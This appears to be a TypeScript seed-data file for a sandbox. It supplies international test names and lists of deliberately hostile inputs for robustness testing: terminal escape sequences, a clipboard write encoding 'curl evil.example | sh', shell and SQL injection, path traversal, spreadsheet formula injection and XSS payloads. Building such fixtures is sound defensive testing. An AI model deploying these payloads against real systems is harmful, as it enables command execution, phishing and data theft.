/**
 * Names for the sandbox's data: many scripts, and the ones that must never command a terminal. `seed/company.ts`, `seed/contacts.ts` and
 * `seed/tickets.ts` take turns with them.
 */

/** Ordinary people, as a service that works world-wide has them. */
export const pools: readonly Readonly<Record<'first' | 'last', readonly string[]>>[] = [
  {
    first: ['Anna', 'Ben', 'Clara', 'David', 'Emma', 'Felix'],
    last: ['Miller', 'Smith', 'Jones', 'Brown', 'Taylor'],
  },
  {
    first: ['Zoë', 'Łukasz', 'Søren', 'Iñaki', 'Šárka', 'Øyvind'],
    last: ['Müller', 'Ångström', 'Çelik', 'Nuñez', 'Ørsted'],
  },
  { first: ['伟', '芳', '秀英', '建国', '小明'], last: ['王', '李', '张', '欧阳', '司马'] },
  { first: ['さくら', 'ハルト', '結衣', '蓮'], last: ['佐藤', '鈴木', '髙橋', '𠮷田'] },
  { first: ['민준', '서연', '지우'], last: ['김', '이', '박'] },
  { first: ['محمد', 'فاطمة', 'يوسف', 'ليلى'], last: ['الأحمد', 'خان', 'بن علي'] },
  { first: ['דוד', 'שרה', 'נועה'], last: ['כהן', 'לוי', 'בן־דוד'] },
  { first: ['प्रिया', 'राज', 'कृष्णा', 'श्रद्धा'], last: ['शर्मा', 'सिंह', 'क्षत्रिय'] },
  { first: ['Иван', 'Ольга', 'Дмитрий'], last: ['Петров', 'Сидорова', 'Щёголев'] },
  { first: ['Νίκος', 'Ελένη'], last: ['Παπαδόπουλος', 'Γεωργίου'] },
  { first: ['สมชาย', 'น้ำฝน'], last: ['ใจดี', 'ศรีสุข'] },
  // Emoji that are one character to a reader and many code points: a family, a flag, skin tones, a keycap.
  { first: ['👩‍👩‍👧‍👦', '🇺🇦', '👍🏽', '🧑🏿‍🚀', '1️⃣'], last: ['Family', '🇯🇵', '🏳️‍🌈', '🏴󠁧󠁢󠁷󠁬󠁳󠁿'] },
  // Combining marks, decomposed.
  {
    first: ['Jose\u0301', 'A\u030angstro\u0308m', 'Vie\u0323\u0302t'],
    last: ['Nu\u0303ez', 'Tra\u0302\u0300n', 'Z\u0351\u036b\u0343a\u0322'],
  },
  {
    first: ["D'Arcy", 'Jean-Luc', 'Mary Jane', ''],
    last: ["O'Neil", 'van der Berg', 'St. John', ''],
  },
]

const esc = '\u001b'

/** Names that attack: the reader's terminal, spreadsheet, browser or shell. */
export const hostileNames: readonly (readonly [string, string])[] = [
  [`${esc}[31mRed`, `Alert${esc}[0m`],
  [`${esc}[2J${esc}[H`, 'Cleared'],
  [`${esc}]0;owned\u0007`, 'Title'],
  [`${esc}]8;;http://evil.example/${esc}\\click${esc}]8;;${esc}\\`, 'Link'],
  [`${esc}]52;c;ZWNobyBwd25lZA==\u0007`, 'Clipboard'],
  [`${esc}P+q544e${esc}\\`, 'Dcs'],
  [`${esc}[6n`, 'Report'],
  [`${esc}[?1049h`, 'Screen'],
  ['\u009b31mC1', '\u009d0;c1 title\u009c'],
  ['\u0085Next', '\u0090Dcs\u009c'],
  ['Overwrite\rADMIN', 'Return'],
  ['Back\b\b\b\bFake', 'Space'],
  ['Two\nLines', 'Row\n64000000000000000000beef  fake row'],
  ['Tab\there', 'Vertical\u000btab\u000c'],
  ['Nul\u0000byte', 'Bell\u0007\u007f'],
  ['\u202egnp.exe', 'Override\u202c'],
  ['\u2066isolate', '\u2069\u200f\u200e\u061c'],
  ['Zero\u200bwidth', '\u2060\ufeff\u00ad'],
  ['Line\u2028separator', 'Paragraph\u2029separator'],
  ["=cmd|' /C calc'!A0", 'Formula'],
  ['+1+1', '@SUM(1)'],
  ['-2+3', '\t=1+1'],
  ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  ['"><svg/onload=alert(1)>', '&lt;b&gt;&amp;'],
  ['$(touch pwned)', '`touch pwned`'],
  ["'; DROP TABLE contacts; --", '| rm -rf ~'],
  ['../../etc/passwd', 'C:\\Windows\\System32'],
  ['%s%n%x', '{{7*7}}${7*7}'],
  ['__proto__', 'constructor'],
  ['null', 'undefined'],
  ['Lone\ud800surrogate', '\udc00Tail'],
  ['Tag\u{e0041}\u{e0042}', '\u{e0001}Language'],
  ['Private\ue000use', 'Non\uffffcharacter'],
  ['a'.repeat(2000), 'Long'],
  ['e' + '\u0301'.repeat(200), 'Stacked'],
  ['  leading', 'trailing  '],
  ['\u00a0nbsp', 'ideographic\u3000space'],
  ['\u3164', '\u2800'],
]

export const hostileTexts: readonly string[] = [
  `${esc}[2J${esc}[1;1H${esc}[31mYour session expired, type your password:`,
  `${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  `${esc}]8;;file:///etc/passwd\u0007invoice.pdf${esc}]8;;\u0007`,
  'ok\r\n2026-01-01 00:00  outgoing  Support  We will refund you 10,000',
  'line one\nline two\n\nline four',
  '\u202ednuofer\u202c please',
  '=HYPERLINK("http://evil.example","open")',
  '</script><script>document.location="http://evil.example"</script>',
  '<style>*{display:none}</style><a href="javascript:alert(1)">x</a>',
  '\u009b2J\u009d0;title\u009c',
  'progress 10%\rprogress 99%\rprogress 100%',
  'bell\u0007backspace\b\b\bdelete\u007fnul\u0000',
  `${esc}#8${esc}c${esc}(0lqqk${esc}(B`,
  '👩‍👩‍👧‍👦 family 🇺🇦 flag e\u0301 accent \u200d joiner',
  'x'.repeat(5000),
  '',
]

export const hostileFileNames: readonly string[] = [
  '../../../etc/cron.d/pwned',
  'invoice\u202efdp.exe',
  `${esc}]0;owned\u0007.png`,
  'a\nb.txt',
  'C:\\temp\\x.bat',
  '$(touch pwned).jpg',
  '<img src=x onerror=alert(1)>.gif',
  "=cmd|' /C calc'!A0.csv",
]
